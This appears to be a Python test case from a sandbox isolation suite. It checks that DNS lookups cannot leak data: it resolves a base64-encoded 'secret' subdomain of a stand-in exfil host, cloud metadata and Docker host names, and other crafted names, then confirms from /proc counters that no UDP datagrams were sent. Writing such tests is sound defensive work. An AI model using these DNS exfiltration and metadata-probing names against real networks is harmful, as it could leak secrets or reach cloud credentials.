"""NW8: sends data out in the names it asks for."""
import socket
import time

DEED = "looks up names that carry data, in every family, and multicast and service names besides"
EXPECTED = "no name is found, nobody is asked, and each answer comes at once"
CLASS = "leaking data by DNS"
SECONDS_MAX = 0.05
NAMES = ("c2VjcmV0.exfil.example.com", "metadata.google.internal", "localhost", "host.docker.internal", "printer.local", "fn",
         "xn--nxasmq6b.example", "a" * 63 + ".example.com", "169.254.169.254.nip.io")


def apply(names):
    found = {}
    for name in (*NAMES, *names):
        for look in (lambda: socket.getaddrinfo(name, 80), lambda: socket.gethostbyname(name), lambda: socket.gethostbyname_ex(name),
                     lambda: socket.getaddrinfo(name, 53, socket.AF_INET6, socket.SOCK_DGRAM)):
            began = time.monotonic()
            try:
                outcome = f"found {look()}"
            except OSError:
                outcome = "not found"
            key = f"{name} {len(found)}"
            found[key] = outcome if time.monotonic() - began < SECONDS_MAX else f"{outcome} after {time.monotonic() - began:.3f} s"
    return found


def judge(outside):
    reply = outside.call([socket.gethostname()])
    for worker in outside.workers():
        with open(f"/proc/{worker}/net/snmp") as counters:
            rows = [line.split() for line in counters if line.startswith("Udp:")]
        sent = dict(zip(*rows))["OutDatagrams"]
        outside.held(sent == "0", f"its network has sent {sent} datagrams")
    outside.each(reply, "not found")
